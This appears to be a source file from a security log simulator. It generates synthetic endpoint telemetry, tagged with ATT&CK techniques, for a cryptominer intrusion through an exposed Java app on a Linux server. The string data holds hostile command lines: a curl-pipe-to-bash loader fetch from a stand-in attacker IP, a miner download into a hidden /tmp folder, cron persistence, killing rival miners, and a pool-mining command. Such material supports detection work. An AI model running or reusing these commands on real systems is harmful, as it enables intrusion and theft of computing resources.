/**
 * Story 5: a cryptominer on the internet-facing Linux server, reached through its exposed Java application:
 * the app spawns a shell that pipes a script from the internet into bash, the script drops a miner in /tmp,
 * persists in cron and the miner talks to a mining pool.
 */
import { unixBin } from '../catalog.ts';
import { fileRow, networkRow, processRow, spawn } from '../rows.ts';
import type { Proc } from '../rows.ts';
import type { StoryDefinition } from './story.ts';
import { unknownBinary } from './helpers.ts';

const ATTACKER = '203.0.113.201';
const POOL = '203.0.113.222';

export const linuxMinerStory: StoryDefinition = {
  id: 'linux-cryptominer',
  title: 'Cryptominer on an internet-facing Linux server',
  hoursAgo: 100,
  localHour: 23,
  build({ org, rng, start }, out) {
    const d = org.servers.find((s) => s.os === 'Linux' && s.internetFacing) ?? org.servers.find((s) => s.os === 'Linux') ?? org.devices.find((x) => x.os === 'Linux');
    if (!d) throw new Error('simulator: the cryptominer story needs a Linux device');
    const boot = start - 9 * 86_400_000;
    const systemd: Proc = { bin: unixBin.systemd, pid: 1, cmd: '/sbin/init', created: boot, account: { domain: '', name: 'root', sid: '' }, logonId: 0, integrity: 'System', elevation: 'None', parentPid: 0, parentFile: '', parentCreated: boot };
    const app = spawn(systemd, unixBin.java, 1422, '/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Djava.awt.headless=true -jar /opt/wiki/app.jar --server.port=8090', boot + 30_000, { domain: '', name: 'wiki', sid: '' }, 0, 'Medium', 'None');
    let t = start;
    out.emit(t, networkRow(t, d, app, 'InboundConnectionAccepted', d.ip, 8090, ATTACKER, 40_000 + rng.int(20_000), ''), 1, 'T1190', 'Exploit request to the exposed Java application');
    const script = `curl -fsSL http://${ATTACKER}/ldr.sh | bash`;
    const sh = spawn(app, unixBin.sh, out.pid(), `/bin/sh -c ${script}`, t + 700);
    out.emit(sh.created, processRow(sh.created, d, sh, app), 2, 'T1059.004', 'The Java application spawns a shell');
    const curl = spawn(sh, unixBin.curl, out.pid(), `curl -fsSL http://${ATTACKER}/ldr.sh`, t + 750);
    out.emit(curl.created, processRow(curl.created, d, curl, sh), 3, 'T1105', 'Loader script fetched');
    out.emit(curl.created + 200, networkRow(curl.created + 200, d, curl, 'ConnectionSuccess', d.ip, 40_000 + rng.int(20_000), ATTACKER, 80, ''), 3, 'T1105', 'Connection to the loader host');
    const bash = spawn(sh, unixBin.bash, out.pid(), 'bash', t + 760);
    out.emit(bash.created, processRow(bash.created, d, bash, sh), 2, 'T1059.004', 'Script piped into bash');
    const miner = unknownBinary('kdevtmpfsi', '/tmp/.ICE-unix/kdevtmpfsi', 2_463_256);
    t += 5000;
    const curl2 = spawn(bash, unixBin.curl, out.pid(), `curl -fsSL -o /tmp/.ICE-unix/kdevtmpfsi http://${ATTACKER}/kdevtmpfsi`, t);
    out.emit(t, processRow(t, d, curl2, bash), 3, 'T1105', 'Miner downloaded');
    out.emit(t + 3000, fileRow(t + 3000, d, curl2, 'FileCreated', '/tmp/.ICE-unix', miner.file, miner, miner.size), 3, 'T1105', 'Miner written to a hidden directory in /tmp');
    const chmod = spawn(bash, unknownBinary('chmod', '/usr/bin/chmod', 64_448), out.pid(), 'chmod +x /tmp/.ICE-unix/kdevtmpfsi', t + 3500);
    out.emit(chmod.created, processRow(chmod.created, d, chmod, bash), 4, 'T1222.002', 'Miner made executable');
    const crontab = spawn(bash, unknownBinary('crontab', '/usr/bin/crontab', 43_720), out.pid(), 'crontab -', t + 4000);
    out.emit(crontab.created, processRow(crontab.created, d, crontab, bash), 5, 'T1053.003', 'Cron persistence installed');
    out.emit(t + 4100, fileRow(t + 4100, d, crontab, 'FileModified', '/var/spool/cron/crontabs', 'wiki', { sha1: rng.hex(40), sha256: rng.hex(64), md5: rng.hex(32) }, 112), 5, 'T1053.003', 'Crontab of the service account modified');
    const kill = spawn(bash, unknownBinary('pkill', '/usr/bin/pkill', 30_952), out.pid(), 'pkill -f xmrig', t + 4500);
    out.emit(kill.created, processRow(kill.created, d, kill, bash), 6, 'T1562.001', 'Competing miners killed');
    const m = spawn(bash, miner, out.pid(), '/tmp/.ICE-unix/kdevtmpfsi -o stratum+tcp://' + POOL + ':3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -k --cpu-max-threads-hint=90', t + 6000);
    out.emit(m.created, processRow(m.created, d, m, bash), 7, 'T1496', 'Miner started against a mining pool');
    for (let bt = m.created + 2000, i = 0; i < 60; i++, bt += 90_000 + rng.int(30_000)) {
      out.emit(bt, networkRow(bt, d, m, 'ConnectionSuccess', d.ip, 40_000 + rng.int(20_000), POOL, 3333, ''), 7, 'T1496', 'Mining pool connection');
    }
  },
};
